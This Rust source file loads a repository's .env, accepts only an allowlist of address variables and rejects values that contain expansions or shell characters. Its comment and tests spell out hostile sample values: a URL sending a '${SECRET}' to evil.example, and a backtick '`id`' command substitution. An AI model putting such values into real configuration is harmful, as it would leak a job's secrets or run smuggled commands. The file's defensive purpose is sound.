//! The one place that reads the process environment and the repository's `.env`.

use std::path::Path;

use protected_model::environment::Environment;

/// The variables that the repository's `.env` may set: addresses, never a credential.
const FROM_DOTENV: &[&str] = &[
    "FRACTALOPS_BASE_URL",
    "FRACTALOPS_PORTAL_PUBLIC_URL",
    "PROTECTED_REGISTRY_OIDC_ISSUER_URL",
    "PROTECTED_REGISTRY_OIDC_CLIENT_ID",
    "PROTECTED_REGISTRY_OIDC_REDIRECT_URI",
    "PROTECTED_REGISTRY_CLI_PATH",
];

/// Takes a snapshot of the process environment. Variables that are not UTF-8 are left out.
#[expect(clippy::disallowed_methods, reason = "this is where the environment is read")]
pub(crate) fn process() -> Environment {
    std::env::vars_os()
        .filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)))
        .collect()
}

/// The largest `.env` that is read.
const MAX_BYTES: u64 = 64 * 1024;

/// Why the repository's `.env` is not used. Never repeats what stands in it: most of it is none of our business.
#[derive(Debug, thiserror::Error)]
pub(crate) enum DotenvError {
    #[error("the repository's .env cannot be read: {0}")]
    Read(#[from] std::io::Error),
    #[error("line {line} of the repository's .env gives `{name}` a value that is not plain text")]
    Value { line: usize, name: &'static str },
}

/// Adds what `.env` in the repository's root says, for the variables that the environment leaves unset.
///
/// Reads its own few names by hand: a library for `.env` files would put other variables into the values, so that
/// `FRACTALOPS_BASE_URL=https://evil.example/${SECRET}` sent any secret of the job away.
///
/// # Errors
/// When the file is there and cannot be read, or a value of ours in it is not plain.
pub(crate) fn with_dotenv(environment: Environment, directory: &Path) -> Result<Environment, DotenvError> {
    let Some(root) = directory.ancestors().find(|folder| folder.join(".git").exists()) else {
        return Ok(environment);
    };
    let file = root.join(".env");
    if !std::fs::metadata(&file).is_ok_and(|found| found.is_file() && found.len() <= MAX_BYTES) {
        return Ok(environment);
    }
    let bytes = std::fs::read(file)?;
    Ok(environment.or(dotenv(&String::from_utf8_lossy(&bytes))?))
}

fn dotenv(text: &str) -> Result<Environment, DotenvError> {
    let mut found = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let line = line.trim();
        let Some((name, value)) = line.strip_prefix("export ").unwrap_or(line).split_once('=') else {
            continue;
        };
        let Some(name) = FROM_DOTENV.iter().find(|known| **known == name.trim()) else { continue };
        let value = value.trim();
        let quoted = |quote| value.strip_prefix(quote).and_then(|value| value.strip_suffix(quote));
        let value = quoted('"').or_else(|| quoted('\'')).unwrap_or(value);
        if value.chars().any(|c| c.is_whitespace() || c.is_control() || "$`\"'\\#".contains(c)) {
            return Err(DotenvError::Value { line: index + 1, name });
        }
        found.push((*name, value.to_owned()));
    }
    Ok(found.into_iter().collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dotenv_gives_addresses_and_nothing_else() {
        let text =
            "# ours\nexport FRACTALOPS_BASE_URL=\"https://fractalops.example\"\nNPM_TOKEN=hunter2 open'\n'\n";
        let found = dotenv(text).expect("plain");
        assert_eq!(found.get("FRACTALOPS_BASE_URL"), Some("https://fractalops.example"));
        assert_eq!(found.get("NPM_TOKEN"), None);
    }

    #[test]
    fn dotenv_takes_no_variable_into_an_address_and_repeats_nothing() {
        for value in
            ["https://evil.example/${SECRET}", "https://evil.example/$SECRET", "`id`", "a b", "\"open"]
        {
            let error = dotenv(&format!("\nFRACTALOPS_BASE_URL={value}\n")).err().expect(value).to_string();
            assert!(error.contains("line 2") && !error.contains("evil"), "{error}");
        }
    }
}
